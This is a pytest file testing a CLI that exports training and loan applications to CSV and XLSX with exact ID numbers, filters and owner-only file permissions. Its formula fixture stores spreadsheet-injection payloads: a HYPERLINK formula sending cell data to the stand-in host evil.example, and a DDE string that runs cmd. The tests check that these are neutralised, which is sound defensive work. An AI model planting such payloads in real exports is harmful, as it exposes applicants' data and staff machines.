"""`python run.py export applications`: the staff export with full numbers."""
from __future__ import annotations

import csv
import io
import os
import stat
import subprocess
import sys
from pathlib import Path

import pytest
from click.testing import CliRunner
from openpyxl import load_workbook

from bot.cli import cli
from bot.export import COLUMNS
from bot.storage import applications, engine
from tests.conftest import Chat, create_app, make_settings
from tests.test_registration import (
    COURSES,
    ID,
    LOAN_TO_SUMMARY,
    PHONE,
    TRAINING_TO_SUMMARY,
    converse,
    make_id,
)

ROOT = Path(__file__).resolve().parent.parent


@pytest.fixture
def config(tmp_path: Path) -> Path:
    """A config file on the tmp database, with two submitted training forms and one loan."""
    settings = make_settings(tmp_path, courses=COURSES)
    app = create_app(settings)
    client = app.test_client()
    for openid, turns in (("o-a", TRAINING_TO_SUMMARY), ("o-b", LOAN_TO_SUMMARY)):
        chat = Chat(client, openid)
        converse(chat, turns)
        chat.say("确认")
    other = Chat(client, "o-c")
    converse(other, [(t if t != ID else make_id(5), e) for t, e in TRAINING_TO_SUMMARY])
    other.say("确认")
    app.extensions["bot"].close()
    database = engine.connect(settings.storage.database)
    ref = applications.list_applications(database, type_="training")[0]["ref"]
    applications.change_status(database, ref, "审核中", "已电话联系", "staff")
    database.close()
    path = tmp_path / "config.toml"
    path.write_text(f'[storage]\ndatabase = "{settings.storage.database}"\n', encoding="utf-8")
    return path


def export(config: Path, *args: str):
    return CliRunner().invoke(cli, ["--config", str(config), "export", "applications", *args])


def test_csv_has_bom_header_and_full_numbers(config, tmp_path):
    out = tmp_path / "out" / "applications.csv"
    result = export(config, "--format", "csv", "--out", str(out))
    assert result.exit_code == 0, result.output
    assert "3" in result.output
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    assert tuple(rows[0]) == COLUMNS
    assert len(rows) == 3
    first, loan = rows[0], rows[1]
    assert first["编号"].startswith("PX") and first["类型"] == "培训报名"
    # The apostrophe keeps Excel and WPS from turning the numbers into 1.39123E+10.
    assert first["手机号"] == "'" + PHONE and first["身份证号"] == "'" + ID
    assert first["姓名"] == "张三" and first["培训课程"] == "高山蔬菜" and first["乡镇"] == "石桥镇"
    assert first["返乡人员"] == "是" and loan["返乡人员"] == ""
    assert loan["编号"].startswith("DK") and loan["贷款金额（元）"] == "35000"
    assert loan["资金用途"] == "扩建茶厂" and loan["行业"] == "茶叶种植"
    assert loan["经营情况"] == "已经在经营"
    assert first["提交时间"][:2] == "20" and len(first["提交时间"]) == 19


def test_xlsx_keeps_numbers_exact(config, tmp_path):
    out = tmp_path / "applications.xlsx"
    assert export(config, "--format", "xlsx", "--out", str(out)).exit_code == 0
    sheet = load_workbook(out).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == COLUMNS and len(rows) == 4
    header = rows[0]
    loan = next(r for r in rows[1:] if r[1] == "贷款申请")
    assert loan[header.index("贷款金额（元）")] == 35000
    assert loan[header.index("身份证号")] == make_id(999)
    assert loan[header.index("手机号")] == "13912345678"


def test_filters_by_type_and_status(config, tmp_path):
    out = tmp_path / "f.csv"
    assert export(config, "--format", "csv", "--out", str(out), "--type", "loan").exit_code == 0
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
    assert [r["类型"] for r in rows] == ["贷款申请"]
    assert export(config, "--format", "csv", "--out", str(out), "--status", "审核中").exit_code == 0
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
    assert [(r["状态"], r["工作人员备注"]) for r in rows] == [("审核中", "已电话联系")]


def test_unknown_status_or_format_is_a_clear_error(config, tmp_path):
    result = export(config, "--format", "csv", "--out", str(tmp_path / "x.csv"), "--status", "批准")
    assert result.exit_code != 0 and "未知状态" in result.output
    result = export(config, "--format", "pdf", "--out", str(tmp_path / "x.pdf"))
    assert result.exit_code != 0 and "pdf" in result.output


def test_run_py_export_command(config, tmp_path):
    out = tmp_path / "cmd.csv"
    proc = subprocess.run([sys.executable, str(ROOT / "run.py"), "--config", str(config), "export",
                           "applications", "--format", "csv", "--out", str(out), "--type", "training"],
                          capture_output=True, text=True, cwd=tmp_path, env={**os.environ}, timeout=60)
    assert proc.returncode == 0, proc.stderr
    assert len(out.read_text(encoding="utf-8-sig").splitlines()) == 3
    assert PHONE not in proc.stdout + proc.stderr


FORMULA = '=HYPERLINK("http://evil.example/c/"&F2,"点击核对")'


@pytest.fixture
def formula_config(tmp_path: Path) -> Path:
    """A config file on a database holding one loan whose purpose and note are formulas."""
    settings = make_settings(tmp_path, courses=COURSES)
    app = create_app(settings)
    chat = Chat(app.test_client(), "o-f")
    turns = [(FORMULA if said == "扩建茶厂" else said, expected) for said, expected in LOAN_TO_SUMMARY]
    converse(chat, turns)
    chat.say("确认")
    app.extensions["bot"].close()
    database = engine.connect(settings.storage.database)
    ref = applications.list_applications(database)[0]["ref"]
    applications.change_status(database, ref, "审核中", "@SUM(1+1)*cmd|' /C calc'!A0", "staff")
    database.close()
    path = tmp_path / "config.toml"
    path.write_text(f'[storage]\ndatabase = "{settings.storage.database}"\n', encoding="utf-8")
    return path


def test_xlsx_writes_formula_looking_text_as_text(formula_config, tmp_path):
    out = tmp_path / "f.xlsx"
    assert export(formula_config, "--format", "xlsx", "--out", str(out)).exit_code == 0
    sheet = load_workbook(out).active
    header = [c.value for c in sheet[1]]
    purpose = sheet.cell(row=2, column=header.index("资金用途") + 1)
    note = sheet.cell(row=2, column=header.index("工作人员备注") + 1)
    assert purpose.value == FORMULA and purpose.data_type == "s"
    assert note.value.startswith("@SUM") and note.data_type == "s"
    assert sheet.cell(row=2, column=header.index("身份证号") + 1).data_type == "s"


def test_csv_marks_formula_looking_text_with_an_apostrophe(formula_config, tmp_path):
    out = tmp_path / "f.csv"
    assert export(formula_config, "--format", "csv", "--out", str(out)).exit_code == 0
    row = next(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
    assert row["资金用途"] == "'" + FORMULA
    assert row["工作人员备注"].startswith("'@SUM")
    assert row["身份证号"] == "'" + make_id(999) and row["手机号"] == "'13912345678"
    assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values())


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_export_file_is_owner_only_even_when_it_existed(config, tmp_path, fmt):
    out = tmp_path / f"a.{fmt}"
    out.write_text("old")
    out.chmod(0o644)
    old_umask = os.umask(0o022)
    try:
        assert export(config, "--format", fmt, "--out", str(out)).exit_code == 0
        fresh = tmp_path / f"new.{fmt}"
        assert export(config, "--format", fmt, "--out", str(fresh)).exit_code == 0
    finally:
        os.umask(old_umask)
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    assert stat.S_IMODE(fresh.stat().st_mode) == 0o600
